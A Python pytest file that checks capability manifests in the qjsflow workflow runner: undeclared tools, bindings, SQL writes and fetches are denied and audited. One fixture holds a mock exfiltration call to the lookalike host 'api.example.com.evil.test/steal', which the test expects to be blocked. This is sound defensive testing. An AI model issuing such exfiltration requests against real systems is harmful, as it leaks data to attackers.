"""Capability manifests (docs/TENANCY.md): declared in the tree, shown, bounded by the scope's
policy at publish, and enforced on every call — a denied call fails with a coded error, is
audited as denied, and never reaches the tool."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from qjsflow.bundles import SourceTreeError
from qjsflow.bundles.manifest import Capabilities
from qjsflow.runner import Bindings, Runner, RunnerConfig, StartRunInput
from qjsflow.runner.cli.output import render_publish, render_snapshots
from qjsflow.runner.errors import CapabilityRefused
from qjsflow.runner.runner import PublishResult
from qjsflow.runner.store import SnapshotRecord
from qjsflow.runner.tenancy.egress import EgressPolicy
from qjsflow.runner.tenancy.environment import ScopeEnvironment
from qjsflow.sandbox import PoolConfig
from tests.journal_reads import query

CALLS = """import { db } from "qjsflow";
export default async (event, step, env) => {
  const out = {};
  for (const address of ["crm.sync", "crm.admin.wipe", "mail.send"]) {
    try { out[address] = await step.tool(address, address, { n: 1 }); }
    catch (e) { out[address] = `${e.name}: ${e.message}`; }
  }
  try { out.sql = await db.sql("SELECT 1 AS one"); } catch (e) { out.sql = `${e.name}: ${e.message}`; }
  try { out.write = await db.sql("CREATE TABLE t (x)"); } catch (e) { out.write = `${e.message}`; }
  out.env = Object.keys(env).filter((name) => name !== "db").sort();
  return out;
};"""


def _manifest(**capabilities: Any) -> str:
    return json.dumps({"capabilities": capabilities})


@pytest.fixture
def called() -> list[str]:
    return []


def _config(tmp_path: Path, called: list[str], **more: Any) -> RunnerConfig:
    def tool(address: str) -> Any:
        async def call(args: object) -> str:
            called.append(address)
            return f"{address} ok"

        return call

    tools = {a: tool(a) for a in ("crm.sync", "crm.admin.wipe", "mail.send")}
    environment = ScopeEnvironment(vars={"REGION": "eu", "INTERNAL": "x"})
    more.setdefault("environments", {"acme": environment})
    return RunnerConfig(
        pool=PoolConfig(size=2), scope_root=tmp_path / "scopes", bindings=Bindings(tools=tools),
        **more,
    )  # fmt: skip


async def _run(runner: Runner, files: dict[str, str]) -> Any:
    published = await runner.publish("acme", files)
    run = await runner.start(StartRunInput("acme", "flow", published.snapshot_id, None, None))
    return published, run


async def test_calls_outside_the_manifest_are_denied_and_audited(
    tmp_path: Path, called: list[str]
) -> None:
    manifest = _manifest(tools=["crm.sync"], bindings=["REGION"], sql="read")
    async with Runner.open(tmp_path / "j.db", _config(tmp_path, called)) as runner:
        published, run = await _run(runner, {"workflows/flow.ts": CALLS, "qjsflow.json": manifest})
        assert published.capabilities == Capabilities(("crm.sync",), ("REGION",), (), "read")
        out = run.output
        assert out["crm.sync"] == "crm.sync ok"
        assert out["crm.admin.wipe"] == (
            "CapabilityDenied: the tool 'crm.admin.wipe' is not among the capabilities the"
            " snapshot declares: denied"
        )
        assert out["mail.send"].startswith("CapabilityDenied: the tool 'mail.send'")
        assert called == ["crm.sync"]  # the denied tools were never called
        assert out["sql"]["rows"] == [{"one": 1}]  # sql: read reads
        assert "db.sql may only read" in out["write"]
        assert out["env"] == ["REGION"]  # an undeclared binding is not in env
        rows = query(tmp_path / "j.db", "SELECT address, error FROM tool_calls")
        denied = [(str(a), json.loads(e).get("code")) for a, e in rows if e is not None]
        assert ("crm.admin.wipe", "capability_denied") in denied
        assert ("mail.send", "capability_denied") in denied
        assert ("qjsflow.sql", "capability_denied") in denied
        history = [e.type for e in await runner.history(run.run_id, scope="acme")]
        assert history.count("call_denied") == 2


async def test_sql_none_denies_every_statement(tmp_path: Path, called: list[str]) -> None:
    manifest = _manifest(tools=["*"], sql="none")
    async with Runner.open(tmp_path / "j.db", _config(tmp_path, called)) as runner:
        _, run = await _run(runner, {"workflows/flow.ts": CALLS, "qjsflow.json": manifest})
    assert run.output["sql"].startswith("CapabilityDenied: db.sql is not among the capabilities")
    assert called == ["crm.sync", "crm.admin.wipe", "mail.send"]
    assert not (tmp_path / "scopes").exists() or not any((tmp_path / "scopes").iterdir())


async def test_without_a_manifest_the_scope_policy_bounds_calls(
    tmp_path: Path, called: list[str]
) -> None:
    policy = Capabilities(tools=("crm.*",), bindings=("*",), sql="write")
    config = _config(tmp_path, called, scope_policies={"acme": policy})
    async with Runner.open(tmp_path / "j.db", config) as runner:
        published, run = await _run(runner, {"workflows/flow.ts": CALLS})
        assert published.capabilities is None
    assert called == ["crm.sync", "crm.admin.wipe"]  # crm.* (and deeper) allowed
    assert run.output["mail.send"] == (
        "CapabilityDenied: the tool 'mail.send' is not allowed by the scope's capability"
        " policy: denied"
    )
    assert run.output["env"] == ["INTERNAL", "REGION"]


async def test_a_manifest_asking_for_more_than_the_policy_is_refused(
    tmp_path: Path, called: list[str]
) -> None:
    policy = Capabilities(tools=("crm.*",), fetch=("https://api.example.com/v1/",), sql="read")
    config = _config(tmp_path, called, scope_policies={"acme": policy})
    greedy = _manifest(tools=["crm.sync", "mail.send"], sql="write",
                       fetch=["https://api.example.com/v1/x", "https://api.example.com.evil.test/"])  # fmt: skip
    async with Runner.open(tmp_path / "j.db", config) as runner:
        with pytest.raises(CapabilityRefused) as refused:
            await runner.publish("acme", {"workflows/flow.ts": CALLS, "qjsflow.json": greedy})
        assert refused.value.beyond == [
            "tool 'mail.send'", "fetch 'https://api.example.com.evil.test/'",
            "sql 'write' (the policy allows 'read')",
        ]  # fmt: skip
        assert await runner.snapshots(scope="acme") == []  # nothing stored
        modest = _manifest(tools=["crm.sync"], fetch=["https://api.example.com/v1/x"])
        published = await runner.publish("acme", {"workflows/flow.ts": CALLS,
                                                  "qjsflow.json": modest})  # fmt: skip
        listed = await runner.snapshots(scope="acme")
        assert listed[0].capabilities == published.capabilities


async def test_fetch_outside_the_manifest_never_leaves(tmp_path: Path, called: list[str]) -> None:
    source = """export default async () => {
      try { await fetch("https://api.example.com.evil.test/steal"); return "sent"; }
      catch (e) { return `${e.name}: ${e.message}`; }
    };"""
    egress = EgressPolicy(allow=("*.test", "api.example.com"))
    config = _config(tmp_path, called, environments={"acme": ScopeEnvironment(egress=egress)})
    manifest = _manifest(fetch=["https://api.example.com"])
    async with Runner.open(tmp_path / "j.db", config) as runner:
        _, run = await _run(runner, {"workflows/flow.ts": source, "qjsflow.json": manifest})
        assert run.output.startswith(
            "CapabilityDenied: fetch 'https://api.example.com.evil.test/steal' is not among"
        )
        audit = await runner.list_tool_calls(run.run_id, scope="acme")
        assert [(c.address, c.result) for c in audit] == [("qjsflow.fetch", None)]


async def test_the_wrangler_config_declares_them_too(tmp_path: Path, called: list[str]) -> None:
    wrangler = """{
      // the Cloudflare config, with a qjsflow capabilities entry per workflow
      "name": "app", /* comments are allowed in .jsonc */
      "workflows": [{"name": "flow", "binding": "FLOW", "class_name": "Flow",
                     "capabilities": {"tools": ["crm.sync"], "sql": "read"}},
                    {"name": "other", "capabilities": {"tools": ["mail.send"]}}]
    }"""
    async with Runner.open(tmp_path / "j.db", _config(tmp_path, called)) as runner:
        published, _ = await _run(runner, {"workflows/flow.ts": CALLS,
                                           "wrangler.jsonc": wrangler})  # fmt: skip
        assert published.capabilities == Capabilities(("crm.sync", "mail.send"), (), (), "read")
        assert called == ["crm.sync", "mail.send"]
        # The manifest is part of the snapshot: another manifest, another snapshot.
        again = await runner.publish("acme", {"workflows/flow.ts": CALLS,
                                              "wrangler.jsonc": wrangler.replace("read", "none")})  # fmt: skip
        assert again.snapshot_id != published.snapshot_id


async def test_a_bad_manifest_is_refused_naming_the_file(tmp_path: Path, called: list[str]) -> None:
    async with Runner.open(tmp_path / "j.db", _config(tmp_path, called)) as runner:
        for text, problem in (
            ("{", "qjsflow.json: is not valid JSON"),
            ('{"capabilities": {"tools": "all"}}', "capabilities.tools is a list"),
            ('{"capabilities": {"sql": "admin"}}', "capabilities.sql is one of none, read, write"),
            ('{"capabilities": {"network": []}}', "capabilities hold some of bindings, fetch"),
            (
                json.dumps({"capabilities": {"tools": [f"t{n}" for n in range(257)]}}),
                "capabilities.tools is a list of at most 256 strings",
            ),
            ('{"capabilities": {"fetch": ["a b"]}}', "'a b' is not 1-256 printable characters"),
        ):
            with pytest.raises(SourceTreeError, match=problem):
                await runner.publish("acme", {"workflows/flow.ts": CALLS, "qjsflow.json": text})
    rows = query(tmp_path / "j.db", "SELECT count(*) FROM snapshots")
    assert rows == [(0,)]


def test_publish_and_snapshots_show_what_is_declared() -> None:
    declared = Capabilities(("crm.sync",), ("REGION",), ("api.example.com",), "read")
    result = PublishResult("acme", "ab" * 32, (), True, declared)
    shown = render_publish(result)
    assert "capabilities: tools crm.sync; bindings REGION; fetch api.example.com; sql read" in shown
    bare = render_snapshots([SnapshotRecord("acme", "cd" * 32, 0.0, ())])
    assert "none declared (bounded by the scope's policy)" in bare


async def test_a_binding_object_outside_the_manifest_is_denied(
    tmp_path: Path, called: list[str]
) -> None:
    source = """export default async (event, step, env) => {
      await env.CACHE.put("k", "v");
      const mine = await env.CACHE.get("k");
      let other;
      try { other = await step.tool("peek", "qjsflow.kv", { binding: "VAULT", op: "get", key: "k" }); }
      catch (e) { other = `${e.name}: ${e.message}`; }
      return { mine, other, names: Object.keys(env).sort() };
    };"""
    environment = ScopeEnvironment(kv=("CACHE", "VAULT"))
    config = _config(tmp_path, called, environments={"acme": environment})
    manifest = _manifest(bindings=["CACHE"], tools=[])
    async with Runner.open(tmp_path / "j.db", config) as runner:
        _, run = await _run(runner, {"workflows/flow.ts": source, "qjsflow.json": manifest})
    assert run.output["mine"] == "v"
    assert run.output["names"] == ["CACHE", "db"]  # VAULT is not in env
    assert run.output["other"] == (
        "CapabilityDenied: the binding 'VAULT' is not among the capabilities the snapshot"
        " declares: denied"
    )
